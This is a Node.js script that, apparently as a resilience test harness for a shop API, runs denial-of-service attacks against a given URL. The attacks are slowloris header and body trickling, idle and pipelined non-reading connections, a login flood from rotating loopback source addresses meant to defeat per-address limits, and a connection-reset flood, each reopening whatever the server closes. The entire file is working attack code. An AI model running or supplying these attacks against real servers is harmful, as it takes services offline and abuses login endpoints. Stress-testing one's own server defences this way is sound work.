// SPDX-License-Identifier: MIT

/**
 * One attack on connections, in its own process, until it is killed: node attacks.mjs NAME URL
 * TOKEN. Whatever the server closes is opened again.
 */

import { connect } from "node:net";
import { setPriority } from "node:os";

const [, , name, url, token] = process.argv;
const { hostname: host, port } = new URL(url);
const CONNECTIONS = 1200;
const head = (method, path) => `${method} ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\n`;

/** Sends a byte of @text each second, over and over. */
function trickle(socket, text) {
  let at = 0;
  const timer = setInterval(() => socket.write(text[at++ % text.length]), 1000);
  socket.once("close", () => clearInterval(timer));
}

/** One of many addresses, so that no limit per address helps. */
const guesser = () => `127.1.${Math.floor(Math.random() * 256)}.${Math.floor(Math.random() * 256)}`;

/** What to do with an open connection. */
const attacks = {
  silent: () => {},
  kept: (socket) => socket.write(`${head("GET", "/healthz")}\r\n`),
  header: (socket) => {
    socket.write(`${head("GET", "/")}X-Filler: `);
    trickle(socket, "x");
  },
  body: (socket) => {
    socket.write(
      `${head("POST", "/api/login")}Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n`,
    );
    trickle(socket, '{"email":"');
  },
  deaf: (socket) => {
    const ask = `${head("GET", "/api/orders?limit=100")}Authorization: Bearer ${token}\r\n\r\n`;
    socket.pause();
    socket.write(ask.repeat(1000));
  },
  login: (socket) => {
    const body = JSON.stringify({ email: `${Math.random()}@shop.example`, password: "guessed" });
    socket.write(
      `${head("POST", "/api/login")}Content-Type: application/json\r\n` +
        `Content-Length: ${body.length}\r\n\r\n${body}`,
    );
  },
  flood: (socket) => socket.resetAndDestroy(),
};

function open(pause) {
  const localAddress = name === "login" ? guesser() : host;
  const socket = connect({ host, port: Number(port), localAddress, noDelay: true });
  let due = true;
  const again = () => {
    if (due) setTimeout(() => open(pause), pause);
    due = false;
  };
  if (name !== "deaf") socket.on("data", () => {});
  socket.once("connect", () => attacks[name](socket));
  socket.on("error", () => {});
  socket.once("end", () => socket.destroy());
  socket.once("close", again);
}

setPriority(10); // in reality, another machine would do its work
const count = name === "flood" ? 200 : CONNECTIONS;
for (let i = 0; i < count; i++) setTimeout(() => open(name === "flood" ? 0 : 100), i % 500);
